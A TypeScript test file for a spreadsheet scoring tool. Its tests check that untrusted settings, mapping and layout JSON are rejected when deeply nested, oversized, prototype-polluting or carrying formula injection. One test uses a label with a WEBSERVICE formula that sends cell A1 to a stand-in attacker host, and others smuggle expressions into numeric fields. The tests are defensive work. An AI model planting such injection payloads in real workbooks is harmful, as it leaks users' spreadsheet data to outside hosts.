import { computeWorkbook } from '../../src/app/computeWorkbook';
import { BPOM_2021, parseMethod } from '../../src/scoring/index';
import { parseReportLayout } from '../../src/report/parseReportLayout';
import { parseMapping, readSettings, writeSettings } from '../../src/sheet/settings';
import { sheetMarkText, sheetMemoryIn } from '../../src/sheet/sheetMark';
import { defaultReportLayout } from '../../src/text/reportLayout';
import { compute, office, writtenCells } from '../helpers/officeWorkbook';
import { RESULT_SHEET } from '../helpers/resultSheet';

const codesOf = (text: string): unknown => {
  const read = readSettings(text);
  return read.ok ? 'read' : read.issues.map(({ code, data }) => [code, data?.['part']]);
};

describe('settings that somebody else put into the workbook', () => {
  it('are refused when they are too deep or too long, and then never written over', () => {
    const deep = `{"version":1,"lain":${'['.repeat(100_000)}${']'.repeat(100_000)}}`;
    const long = `{"version":1,"lain":"${'a'.repeat(1 << 24)}"}`;
    expect([deep, long].map(codesOf)).toEqual([
      [['settings-unreadable', 'others']],
      [['settings-unreadable', 'size']],
    ]);
    const { plan, issues } = computeWorkbook({ ...office(), settings: deep });
    expect(plan.settings).toBeUndefined();
    expect(plan.edits.length).toBe(1);
    expect(issues.map(({ code }) => code)).toContain('settings-unreadable');
  });

  it('reach no prototype by the name __proto__', () => {
    const text =
      '{"version":1,"__proto__":{"mode":"formulas"},"accepted":{"__proto__":{"printed":"1","note":"x"}},' +
      '"mapping":{"version":1,"answers":{"__proto__":"x","constructor":"y"}}}';
    const read = readSettings(text);
    if (!read.ok) throw new Error('not read');
    const { accepted, mapping, mode } = read.value;
    expect([mode, Object.getPrototypeOf(accepted), Object.getPrototypeOf(mapping.answers)]).toEqual([
      'values',
      Object.prototype,
      Object.prototype,
    ]);
    expect('printed' in {} || 'mode' in {}).toBe(false);
    expect(JSON.parse(writeSettings(read.value))).toEqual({
      ...JSON.parse(text),
      ...JSON.parse(writeSettings(read.value)),
    });
  });

  it('carry no formula in the labels of their bands', () => {
    const label = '"&WEBSERVICE("http://jahat.example/?"&A1)&"';
    const criterionBands = BPOM_2021.criterionBands.map((band) => ({ ...band, label }));
    const method = parseMethod({ ...BPOM_2021, id: 'jahat', criterionBands });
    if (!method.ok) throw new Error(JSON.stringify(method.issues));
    const { plan } = compute(office(), { mode: 'formulas', method: method.value });
    const formulas = Object.values(writtenCells(plan)).flatMap((content) =>
      typeof content === 'object' && content !== null
        ? [content.formula.replaceAll(/"(?:[^"]|"")*"/g, '""')]
        : [],
    );
    expect(formulas.length).toBeGreaterThan(5);
    expect(formulas.filter((formula) => formula.includes('WEBSERVICE'))).toEqual([]);
  });

  it.each<[string, unknown]>([
    [
      'a bound that is a text',
      { criterionBands: [{ ...BPOM_2021.criterionBands[0], from: '0)+WEBSERVICE("x"' }] },
    ],
    ['a standard that is a text', { efficiencyStandard: '1)+1' }],
    [
      'a figure of a band that is a text',
      { efficiencyBands: [{ ...BPOM_2021.efficiencyBands[0], value: '1)+1' }] },
    ],
    ['a cap that is an object', { cap: { valueOf: 1 } }],
    ['a field of the name __proto__', JSON.parse('{"__proto__":{"cap":1}}')],
  ])('are no method with %s', (_, change) => {
    expect(parseMethod({ ...BPOM_2021, ...(change as object) }).ok).toBe(false);
  });
});

describe('other JSON that is read', () => {
  it('a mapping and a layout reach no prototype', () => {
    expect(
      Object.getPrototypeOf(parseMapping(JSON.parse('{"version":1,"answers":{"__proto__":"x"}}'))?.answers),
    ).toBe(Object.prototype);
    const base = defaultReportLayout('id');
    const id = base.parts[0]?.id;
    const layouts = [
      '{"__proto__":{},"versi":1,"bagian":[]}',
      `{"versi":1,"bagian":[{"id":"${id}","tabel":{"__proto__":{}}}]}`,
    ];
    expect(layouts.map((text) => parseReportLayout(JSON.parse(text), base).ok)).toEqual([false, false]);
    expect(parseReportLayout(JSON.parse('['.repeat(5000) + ']'.repeat(5000)), base).ok).toBe(false);
  });

  it('the mark of a sheet keeps what we put into it and nothing else', () => {
    const text = sheetMarkText(RESULT_SHEET);
    const kept = sheetMemoryIn(text);
    expect(sheetMarkText({ ...RESULT_SHEET, ...kept })).toBe(text);
    const more = { ...(JSON.parse(text) as object), name: 'Data', blocks: [{ sheet: 'Data' }] };
    expect(sheetMemoryIn(JSON.stringify(more))).toEqual(kept);
  });

  it.each([
    'null', '5', '"x"', '[]', '{', '{"charts":5}', '{"charts":[{}]}', '{"formats":[{"range":{},"rules":[]}]}', '{"landscape":"ya"}',
    '{"heights":[{"row":-1,"points":9}]}', '{"freezeRows":1e9}', '{"printTitleRows":{"first":0}}', '{"pageBreaks":["x"]}',
  ])('a mark %s is none of ours', (text) => {
    expect(sheetMemoryIn(text)).toBeNull();
  }); // prettier-ignore
});
